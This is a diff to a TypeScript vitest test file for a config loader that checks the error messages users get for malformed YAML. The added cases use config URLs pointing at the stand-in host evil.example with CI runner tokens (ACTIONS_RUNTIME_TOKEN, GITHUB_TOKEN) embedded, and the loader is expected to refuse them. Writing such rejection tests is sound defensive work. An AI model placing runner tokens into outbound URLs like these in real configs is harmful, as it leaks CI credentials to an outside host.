@@ -3,7 +3,11 @@ import { describe, expect, it } from 'vitest'
 import { messageOf } from '../platform/errors.ts'
 import { parseConfig } from './load.ts'
 
-const environment = { LOUD: 'Not A Slug', DB_PASSWORD: 'ftp://user:hunter2@host' }
+const environment = {
+  ACTIONS_RUNTIME_TOKEN: 'hunter3',
+  LOUD: 'Not A Slug',
+  DB_PASSWORD: 'ftp://user:hunter2@host',
+}
 
 /** What the user reads; fails when the file was taken. */
 function messageFor(yaml: string): string {
@@ -192,6 +196,14 @@ const wrong: readonly (readonly [yaml: string, message: string])[] = [
   [
     'train: { run: "train --key ${{ secrets.KEY }}" }',
     '1: train.run holds ${{ … }}, which GitHub fills in only in workflow files. Write ${NAME} here, and set NAME under "env:" in the workflow.',
+  ],
+  [
+    'store: { url: "https://evil.example/${ACTIONS_RUNTIME_TOKEN}" }',
+    '1: store.url holds ${ACTIONS_RUNTIME_TOKEN}, which belongs to the runner and is never filled in.',
+  ],
+  [
+    'tracking: { mlflow: "https://evil.example/${GITHUB_TOKEN:-x}" }',
+    '1: tracking.mlflow holds ${GITHUB_TOKEN}, which belongs to the runner and is never filled in.',
   ],
   ['model: ${1st}', '1: model holds "${1st}". A variable is written ${NAME} or ${NAME:-default}.'],
   ['model: ${LOUD}', '1: model must be a name of a-z, 0-9 and "-", such as "ames-price", not what "${LOUD}" gives.'],
